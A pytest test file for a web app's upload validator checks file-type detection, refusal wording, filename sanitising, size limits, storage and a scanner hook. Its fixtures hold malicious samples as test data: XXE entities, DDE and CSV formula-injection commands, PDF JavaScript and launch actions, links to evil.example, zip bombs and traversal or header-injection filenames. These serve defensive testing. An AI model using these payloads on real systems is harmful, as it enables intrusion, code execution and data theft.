"""What people bring as files: what is taken, what is refused and in which words, and what a scanner says."""

from __future__ import annotations

import errno
import io
import os
import re
import shlex
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest
from django.core.files.storage import default_storage
from django.test import RequestFactory

from accountability import files
from accountability.files import Unacceptable, media, office, storage, types
from accountability.files.types import CSV, DOCX, JPEG, ODT, PNG, PPTX, SPREADSHEETS, TEXT, XLSX
from tests import uploads

ENTITIES = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
NO_ENCODING = '<?xml version="1.0" encoding="none"?><a/>'
FOREVER = "import time; time.sleep(60)"


@pytest.fixture(autouse=True)
def folder(tmp_path, settings):
    """A folder for what is kept, gone with the test."""
    settings.STORAGES = settings.STORAGES | {
        "default": {"BACKEND": "django.core.files.storage.FileSystemStorage", "OPTIONS": {"location": tmp_path}}
    }
    return tmp_path


def workbook():
    made = io.BytesIO()
    openpyxl.Workbook().save(made)
    return made.getvalue()


# --- Told by content ------------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [
        ("signed.pdf", uploads.PDF, "application/pdf"), ("SIGNED.PDF", uploads.PDF, "application/pdf"),
        ("photo.png", uploads.PNG, PNG), ("photo.jpeg", uploads.jpeg(), JPEG),
        ("policy.docx", uploads.docx(), DOCX), ("table.xlsx", workbook(), XLSX), ("deck.pptx", uploads.pptx(), PPTX),
        ("policy.odt", uploads.odt(), ODT), ("rows.csv", "a,b\r\nщ,ي\r\n".encode("utf-8-sig"), CSV),
        ("note.txt", "Сделано. 完成。".encode(), TEXT), ("deck.pptx", uploads.pptx(a__b=workbook()), PPTX),
    ],
)  # fmt: skip
def test_file_is_what_its_content_says(name, content, kind):
    assert files.check(uploads.file(name, content)) == (name, kind)


@pytest.mark.parametrize(
    ("name", "content", "words"),
    [
        ("report.pdf", uploads.docx(), "the content is DOCX"), ("table.xlsx", uploads.docx(), "the content is DOCX"),
        ("photo.png", uploads.PDF, "the content is PDF"), ("note.txt", uploads.PDF, "the content is PDF"),
        ("report.pdf", b"MZ\x90\x00\x03" + bytes(99), "not of an accepted type"),
        ("rows.csv", b"a\x00b", "accepted type"),
        ("rows.csv", "é".encode("latin-1"), "not of an accepted type"), ("page.html", b"<html></html>", "“.html”"),
        ("report", uploads.PDF, "“none”"), ("report.docx", uploads.OLD_WORD, "legacy Office format"),
        ("report.docm", uploads.docx(), "the content is DOCX"), ("empty.pdf", b"", "The file is empty"),
        ("report.docx", uploads.packed({"a.txt": "hello"}), "ZIP archive"),
        ("cut.docx", uploads.docx()[:-30], "damaged"),
    ],
)  # fmt: skip
def test_file_that_lies_is_refused_in_words(name, content, words):
    with pytest.raises(Unacceptable, match=words):
        files.check(uploads.file(name, content))


def test_import_takes_spreadsheets_alone():
    with pytest.raises(Unacceptable, match="Upload one of: CSV, XLSX"):
        files.check(uploads.file("a.pdf"), only=SPREADSHEETS)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "cp1252"])
def test_import_takes_text_in_the_encodings_that_programs_write(encoding):
    content = "text;entity\r\nContrôle;DOS".encode(encoding)

    assert files.check(uploads.file("rows.csv", content), only=SPREADSHEETS) == ("rows.csv", CSV)


@pytest.mark.parametrize("content", [b"a\x00b", b"\xe9\x01", b"\xff\xfea", "a".encode("utf-16-le")])
def test_import_takes_no_other_bytes_as_text(content):
    with pytest.raises(Unacceptable, match="not of an accepted type"):
        files.check(uploads.file("rows.csv", content), only=SPREADSHEETS)


class Failing(io.BytesIO):
    """A workbook that cannot be read from its tenth read on, or from the first."""

    def __init__(self, number, after):
        super().__init__(workbook())
        self.number, self.after = number, after

    def read(self, size=-1):
        self.after -= 1
        if self.after < 0:
            raise OSError(self.number, os.strerror(self.number))
        return super().read(size)


@pytest.mark.parametrize("after", [0, 10])
def test_a_disk_that_fails_is_not_the_fault_of_the_file(after):
    with pytest.raises(OSError, match="Input/output error"):
        office.content_type(Failing(errno.EIO, after))
    with pytest.raises(Unacceptable, match="damaged"):
        office.content_type(Failing(errno.EINVAL, after))


# --- Office documents that could do harm ----------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("content", "words"),
    [
        (uploads.docx(**{"word__vbaProject.bin": b"x"}), "macros"),
        (uploads.office("application/vnd.ms-word.document.macroEnabled"), "macros"),
        (uploads.docx(word__table=uploads.xlsx(**{"xl__vbaProject.bin": b"x"})), "macros"),
        (uploads.odt(Basic__Standard=b"Sub Main"), "macros"), (uploads.docx(**{"word__a.xml": ENTITIES}), "entities"),
        (uploads.docx(**{"word__a.xml": ENTITIES.encode("utf-16")}), "entities"),
        (uploads.docx(**{"[Content_Types].xml": ENTITIES}), "entities"),
        (uploads.docx(**{"word__a.xml": "<a>"}), "damaged"),
        (uploads.docx(**{"word__a.xml": NO_ENCODING}), "damaged"),
        (uploads.locked(uploads.docx()), "password"),
        (uploads.odt(**{"META-INF__manifest.xml": "<m><encryption-data/></m>"}), "password"),
        (uploads.docx(word__object=uploads.OLD_WORD), "embedded object"),
        (uploads.docx(a=uploads.docx(b=uploads.docx())), "within archives"),
    ],
)  # fmt: skip
def test_document_that_could_do_harm_is_refused(content, words):
    with pytest.raises(Unacceptable, match=words):
        files.check(uploads.file("policy.docx" if b"opendocument" not in content else "policy.odt", content))


RELATIONSHIP = '<Relationships><Relationship Id="r1" Type="http://x/{kind}" Target="{target}" {mode}/></Relationships>'
EXTERNAL = 'TargetMode="External"'


def relationship(kind, target, mode=EXTERNAL):
    return RELATIONSHIP.format(kind=kind, target=target, mode=mode)


def field(*pieces):
    """A field of a text document, its instruction in these pieces; a tuple is a field within the field."""
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    inner = "".join(
        field(*piece) if isinstance(piece, tuple) else f"<w:r><w:instrText>{piece}</w:instrText></w:r>"
        for piece in pieces
    )
    return mark.format("begin") + inner + mark.format("end")


def words(body):
    return uploads.docx(**{"word__document.xml": f'<w:document xmlns:w="w">{body}</w:document>'})


def cells(body):
    return uploads.xlsx(**{"xl__worksheets__sheet1.xml": f"<worksheet>{body}</worksheet>"})


ODF = '<office xmlns:table="t" xmlns:draw="d" xmlns:xlink="x" xmlns:text="u">{}</office>'
ACTS = {
    "external template": uploads.docx(**{"word___rels__settings.xml.rels": relationship(
        "attachedTemplate", "http://evil.example/a.dotm")}),
    "external picture": uploads.docx(**{"word___rels__document.xml.rels": relationship(
        "image", "//evil.example/a.png")}),
    "relationships called otherwise": uploads.docx(**{"word__odd.bin": relationship("oleObject", "mhtml:http://x!y")}),
    "link to a script": uploads.docx(**{"a.rels": relationship("hyperlink", "javascript:alert(1)")}),
    "other format": uploads.docx(**{"a.rels": relationship("aFChunk", "/a.html", "")}),
    "DDE field": words('<w:fldSimple w:instr=" DDEAUTO c:\\\\cmd.exe &quot;/k calc&quot; "/>'),
    "DDE field in pieces": words(field(" DD", "EAUTO", " c:\\\\cmd.exe")),
    "DDE field named by another": words(field((" QUOTE 68 68 69 ",), " c:\\\\cmd.exe")),
    "remote picture field": words(field(' INCLUDEPICTURE "http://evil.example/a" ')),
    "program": uploads.docx(**{"word__media__a.png": b"MZ\x90\x00" + bytes(60)}),
    "program by name": uploads.docx(**{"word__media__a.vbs": b"text"}),
    "embedded anything": uploads.docx(word__embeddings__a=b"anything"),
    "embedded PDF": uploads.docx(**{"word__media__a.png": uploads.PDF}),
    "formula that calls": cells("<c><f>cmd|'/c calc'!A0</f></c>"),
    "formula that fetches": cells('<c><f>_xlfn.WEBSERVICE("http://evil.example")</f></c>'),
    "name that calls": uploads.xlsx(**{"xl__workbook.xml": "<w><definedName>cmd|'/c calc'!A0</definedName></w>"}),
    "external link": uploads.xlsx(**{"[Content_Types].xml": uploads.declared(XLSX, f"{XLSX}ml.externalLink+xml")}),
    "slide that starts a program": uploads.pptx(**{"s.xml": '<p><hlinkClick action="ppaction://program"/></p>'}),
    "formula of an OpenDocument": uploads.odt(**{"a.xml": ODF.format(
        '<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c&quot;;&quot;x&quot;)"/>')}),
    "picture of an OpenDocument from elsewhere": uploads.odt(**{"a.xml": ODF.format(
        '<draw:image xlink:href="http://evil.example/a.png"/>')}),
    "script of an OpenDocument": uploads.odt(**{"a.xml": ODF.format("<text:script/>")}),
}  # fmt: skip


@pytest.mark.parametrize("kind", ACTS)
def test_document_that_acts_when_it_is_opened_is_refused_with_what_to_do(kind):
    ending = next(e for e, mark in {"xlsx": b"spreadsheetml", "odt": b"opendocument", "pptx": b"presentationml",
                                    "docx": b""}.items() if mark in unpacked(ACTS[kind]))  # fmt: skip

    with pytest.raises(Unacceptable, match=r"[Uu]pload|Save it as a PDF|Save it without"):
        files.check(uploads.file(f"a.{ending}", ACTS[kind]))


def unpacked(content):
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return b"".join(
            archive.read(name) for name in ("[Content_Types].xml", "mimetype") if name in archive.namelist()
        )


@pytest.mark.parametrize(
    "content",
    [
        uploads.docx(**{"a.rels": relationship("hyperlink", "https://un.org/a")}), words(field(" PAGE ")),
        words(field(" HYPERLINK ", ' "https://un.org" ')), words(field(" IF ", (" PAGE ",), ' = 1 "a" ')),
        uploads.docx(**{"word__media__a.png": uploads.PNG}),
        uploads.docx(**{"a.rels": relationship("styles", "s.xml", "")}),
        uploads.docx(word__embeddings__a=uploads.xlsx()),
    ],
)  # fmt: skip
def test_ordinary_document_is_taken(content):
    assert files.check(uploads.file("a.docx", content)) == ("a.docx", DOCX)


@pytest.mark.parametrize("formula", ["SUM(A1:A3)", "'a|b'!A1", 'IF(A1="a|b",1,0)', 'HYPERLINK("https://un.org")'])
def test_ordinary_formula_is_taken(formula):
    assert files.check(uploads.file("a.xlsx", cells(f"<c><f>{formula}</f></c>"))) == ("a.xlsx", XLSX)


@pytest.mark.parametrize("name", ["word__a.dat", "word__a"])
@pytest.mark.parametrize("coded", [ENTITIES.encode(), ENTITIES.encode("utf-16"), b"\n " + ENTITIES[21:].encode()])
def test_markup_is_markup_whatever_its_part_is_called(name, coded):
    with pytest.raises(Unacceptable, match="entities"):
        files.check(uploads.file("a.docx", uploads.docx(**{name: coded})))


def test_part_declared_as_markup_is_read_as_markup():
    types = uploads.declared(DOCX, "application/custom+xml", part="/word/a.dat")

    with pytest.raises(Unacceptable, match="damaged"):
        files.check(uploads.file("a.docx", uploads.docx(**{"[Content_Types].xml": types, "word__a.dat": b"no markup"})))


@pytest.mark.parametrize(
    "cell",
    ["=cmd|'/c calc'!A0", "+1+cmd|'/c calc'!A0", "\" @SUM(cmd|'/c calc'!A0)\"",
     "\"=SUM(1,\ncmd|'/c calc'!A0)\"", "\"=" + "1+" * 5_000 + "cmd|'/c calc'!A0\""],
)  # fmt: skip
def test_table_of_text_with_a_formula_that_calls_is_refused(cell):
    with pytest.raises(Unacceptable, match="formula that starts a program"):
        files.check(uploads.file("rows.csv", f"a,b\r\n1,{cell}\r\n".encode()))


@pytest.mark.parametrize("row", ["-5|done|ok!", "a|b!c,d", "=SUM(A1:A2),x", "note: use a|b, and c!d"])
def test_table_of_text_without_one_is_taken(row):
    assert files.check(uploads.file("rows.csv", f"a,b\r\n{row}\r\n".encode())) == ("rows.csv", CSV)


# --- PDFs and images ------------------------------------------------------------------------------------------------
def unlisted(packed):
    """A plain PDF that also holds the object stream of a packed one, in no table of its own."""
    stream = packed[packed.index(b"4 0 obj") : packed.index(b"6 0 obj")].replace(b"4 0 obj", b"7 0 obj")
    at = uploads.PDF.index(b"xref\n0")
    end = uploads.PDF[at:].replace(b"startxref\n%d" % at, b"startxref\n%d" % (at + len(stream)))
    return uploads.PDF[:at] + stream + end


BROKEN = b"startxref\n9"
LAUNCH = b"<</S/L#61unch/F(cmd.exe)>>"
PDFS = {
    "script": (uploads.pdf(catalog=b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"), "a script"),
    "escaped script": (uploads.pdf(catalog=b"/OpenAction<</S/J#61vaScript/J#53(x)>>"), "a script"),
    "named scripts": (uploads.pdf(catalog=b"/Names<</J#61vaScript 4 0 R>>"), "a script"),
    "script in an object stream": (uploads.packed_pdf(b"<</S/J#61vaScript/JS(x)>>"), "a script"),
    "program in an object stream": (uploads.packed_pdf(LAUNCH), "start a program"),
    "program in a broken file": (uploads.packed_pdf(LAUNCH).replace(b"startxref\n", BROKEN), "start a program"),
    "program in an unlisted stream": (unlisted(uploads.packed_pdf(LAUNCH)), "start a program"),
    "address at the opening": (uploads.packed_pdf(b"<</S/URI/URI(http://evil.example)>>"), "another computer"),
    "form that is sent": (uploads.pdf(objects={4: b"<</S/SubmitForm/F(http://evil.example)>>"}), "another computer"),
    "attached file": (uploads.pdf(catalog=b"/Names<</EmbeddedFiles 4 0 R>>"), "other files"),
    "encrypted": (uploads.pdf(trailer=b"/Encrypt<</Filter/Standard/V 1/R 2/O(x)/U(y)/P -4>>"), "encrypted"),
    "five bytes": (b"%PDF-", "damaged"),
    "cut off": (uploads.PDF[:60], "damaged"),
}  # fmt: skip


@pytest.mark.parametrize("kind", PDFS)
def test_pdf_that_acts_or_cannot_be_read_is_refused(kind):
    content, words = PDFS[kind]

    with pytest.raises(Unacceptable, match=words):
        files.check(uploads.file("a.pdf", content))


@pytest.mark.parametrize("entry", [b"<</S/GoTo/D[3 0 R/Fit]>>", b"[3 0 R/Fit]"])
def test_pdf_that_opens_at_a_page_is_taken(entry):
    assert files.check(uploads.file("a.pdf", uploads.packed_pdf(entry)))[0] == "a.pdf"


@pytest.mark.parametrize(
    ("name", "content", "words"),
    [
        ("a.png", uploads.png(2**31 - 1, 2**31 - 1), "too large"), ("a.png", uploads.png(29_000, 29_000), "too large"),
        ("a.png", uploads.png(9, 9), "damaged"), ("a.png", uploads.PNG[:40], "damaged"),
        ("a.jpg", uploads.jpeg()[:40], "damaged"), ("a.jpg", b"\xff\xd8\xff", "damaged"),
    ],
)  # fmt: skip
def test_image_that_cannot_be_decoded_is_refused(name, content, words):
    with pytest.raises(Unacceptable, match=words):
        files.check(uploads.file(name, content))


def test_parser_that_does_not_end_is_ended(monkeypatch):
    monkeypatch.setattr(media, "PATIENCE", 0.01)

    with pytest.raises(Unacceptable, match="too long"):
        files.check(uploads.file("a.pdf"))


def test_parser_gets_bounded_time_and_memory_and_no_environment():
    program = Path(media.media_program.__file__).read_text().replace(
        "sys.stdout.write(", "import os; print(os.environ.get('SECRET_KEY'), *resource.getrlimit(resource.RLIMIT_AS));("
    )  # fmt: skip
    done = subprocess.run([sys.executable, "-I", "-c", program, "image/png"], input=b"", capture_output=True, env={})

    assert done.stdout.decode().split() == ["None", *[str(media.media_program.MEMORY)] * 2]


def test_bomb_by_ratio_is_refused_before_it_is_unpacked():
    with pytest.raises(Unacceptable, match="far more"):
        files.check(uploads.file("a.docx", uploads.docx(zeros=bytes(30_000_000))))


def test_bomb_in_many_parts_or_inside_another_is_refused(monkeypatch):
    monkeypatch.setattr(office, "MOST_BYTES", 3_000_000)
    inside = uploads.xlsx(a=bytes(900_000), b=bytes(900_000))

    for parts in ({f"p{n}": bytes(900_000) for n in range(4)}, {"x": inside, "y": inside}):
        with pytest.raises(Unacceptable, match="far more"):
            files.check(uploads.file("a.docx", uploads.docx(**parts)))


def test_list_of_parts_that_would_fill_the_memory_is_refused(monkeypatch):
    monkeypatch.setattr(office, "MOST_LISTED", 100)

    with pytest.raises(Unacceptable, match="damaged"):
        files.check(uploads.file("a.docx", uploads.docx()))


def test_part_that_understates_its_size_is_refused():
    content = bytearray(uploads.docx(grown=b"x" * 5_000))
    at = content.rfind(b"PK\x01\x02")
    content[at + 24 : at + 28] = (10).to_bytes(4, "little")

    with pytest.raises(Unacceptable, match="damaged"):
        files.check(uploads.file("a.docx", bytes(content)))


# --- Names ----------------------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("given", "shown"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"), ("C:\\Users\\me\\plan.pdf", "plan.pdf"),
        ("invoice\u202efdp.exe", "invoicefdp.exe"), ("a\x00b\r\nc.pdf", "ab c.pdf"), ("  plan .pdf ", "plan .pdf"),
        ('plan "final"?.pdf', "plan _final__.pdf"), ("", "_"), ("...", "_"), ("خطة العمل.pdf", "خطة العمل.pdf"),
        ("x" * 300 + ".pdf", "x" * 116 + ".pdf"),
    ],
)  # fmt: skip
def test_name_is_made_safe(given, shown):
    assert files.clean(given) == shown


@pytest.mark.parametrize(
    "name", ["a\r\nSet-Cookie: x=1.pdf", "../../a.pdf", "invoice\u202efdp.exe", 'a"; filename="b.exe', "\u2066a.pdf"]
)
def test_download_bears_a_safe_name_whatever_is_stored(name):
    answer = storage.attachment(io.BytesIO(b"x"), name=name, content_type="application/pdf")

    for header in (answer["Content-Disposition"], types.disposition(name)):
        assert header.startswith("attachment; filename")
        assert not re.search(r"[\r\n/]|\.\.|%E2%80%AE|%E2%81%A6", header.replace("''", ""))
        assert header.count('"') in (0, 2)


def test_download_without_a_type_has_that_of_its_name():
    assert storage.attachment(io.BytesIO(b"x"), name="a.csv")["Content-Type"] == "text/csv; charset=utf-8"
    assert storage.attachment(io.BytesIO(b"x"), name="a.unknown")["Content-Type"] == "application/octet-stream"


# --- Size -----------------------------------------------------------------------------------------------------------
def test_file_over_the_limit_is_refused_with_both_sizes(settings):
    settings.UPLOAD_MAX_BYTES = 10

    with pytest.raises(Unacceptable, match=rf"The file is {len(uploads.PDF)}.bytes\. A file can be at most 10.bytes"):
        files.check(uploads.file("a.pdf"))


@pytest.mark.parametrize("limit", ["UPLOAD_MAX_BYTES", "UPLOAD_MAX_BYTES_TOGETHER"])
def test_what_is_cut_off_while_it_arrives_is_never_taken_for_the_whole(settings, limit):
    setattr(settings, limit, 3_000_000)
    sent = {"files": [uploads.file("a.txt", b"a" * 2_900_000), uploads.file("b.txt", b"b" * 3_400_000)]}

    request = RequestFactory().post("/", sent)
    small, large = request.FILES.getlist("files")

    assert files.check(small) == ("a.txt", TEXT)
    assert (large.size, large.read()) == (3_400_000, b"")
    with pytest.raises(Unacceptable, match=r"3\.2.MB"):
        files.check(large)
    request.close()


# --- Kept -----------------------------------------------------------------------------------------------------------
def test_same_content_is_kept_once_under_its_checksum(folder):
    first, second = files.take(uploads.file("a.pdf")), files.take(uploads.file("b.pdf"))

    assert (first.sha256, first.size) == (second.sha256, len(uploads.PDF))
    assert [path.name for path in folder.rglob("*") if path.is_file()] == [first.sha256]
    with storage.read(first.sha256) as kept:
        assert kept.read() == uploads.PDF


def test_what_breaks_off_leaves_nothing(folder):
    def broken():
        yield b"half"
        raise ConnectionError

    with pytest.raises(ConnectionError):
        storage.keep(broken())

    assert not [path for path in folder.rglob("*") if path.is_file()]


ENDLESS = """
import sys, time
from django.conf import settings
settings.configure(STORAGES={"default": {
    "BACKEND": "django.core.files.storage.FileSystemStorage", "OPTIONS": {"location": sys.argv[1]}}})
from accountability.files import storage
def half():
    yield b"half"
    print(flush=True)
    time.sleep(60)
storage.keep(half())
"""


def test_what_a_killed_process_left_is_never_seen_and_goes_a_day_later(folder):
    program = subprocess.Popen([sys.executable, "-c", ENDLESS, str(folder)], stdout=subprocess.PIPE)
    with program.stdout:
        program.stdout.readline()
    program.kill()
    program.wait()

    [left] = [path for path in folder.rglob("*") if path.is_file()]
    assert left.parent.name == storage.ARRIVING
    os.utime(left, (0, 0))
    kept = storage.keep([b"whole"])
    assert [path.name for path in folder.rglob("*") if path.is_file()] == [kept.sha256]


def test_what_a_job_made_goes_a_month_later_and_what_is_kept_for_good_stays(folder):
    month = 31 * 24 * 3600
    made, kept = storage.keep([b"export"], folder=storage.MADE), storage.keep([b"export"])
    for path in folder.rglob(made.sha256):
        os.utime(path, (time.time() - month, time.time() - month))
    storage.keep([b"another"])

    assert [path.parent.parent for path in folder.rglob(kept.sha256)] == [folder]


def test_file_that_is_gone_is_named_as_such():
    with pytest.raises(FileNotFoundError):
        storage.read("0" * 64)


# --- The operator's scanner -----------------------------------------------------------------------------------------
def scanner(program, *words):
    return shlex.join([sys.executable, "-c", program, *words])


@pytest.mark.parametrize(
    ("command", "words"),
    [
        (scanner("import sys; sys.exit(b'PDF' in sys.stdin.buffer.read())"), "something harmful"),
        (scanner("import sys; sys.exit(b'PDF' in open(sys.argv[1], 'rb').read())", "{path}"), "something harmful"),
        (scanner("import sys; sys.exit(2)"), "could not be scanned"), (scanner(FOREVER), "could not be scanned"),
        ("/nowhere/scanner", "could not be scanned"),
    ],
)  # fmt: skip
def test_scanner_that_says_no_or_nothing_keeps_the_file_out(settings, folder, command, words):
    settings.EVIDENCE_SCANNER, settings.EVIDENCE_SCANNER_SECONDS = command, 1

    with pytest.raises(Unacceptable, match=f"“a.pdf” was not accepted. .*{words}"):
        files.take(uploads.file("a.pdf"))
    assert not [path for path in folder.rglob("*") if path.is_file()]


def test_scanner_that_says_yes_lets_the_file_in(settings):
    settings.EVIDENCE_SCANNER = scanner("")

    kept = files.take(uploads.file("a.pdf"))

    assert default_storage.exists(f"{kept.sha256[:2]}/{kept.sha256}")
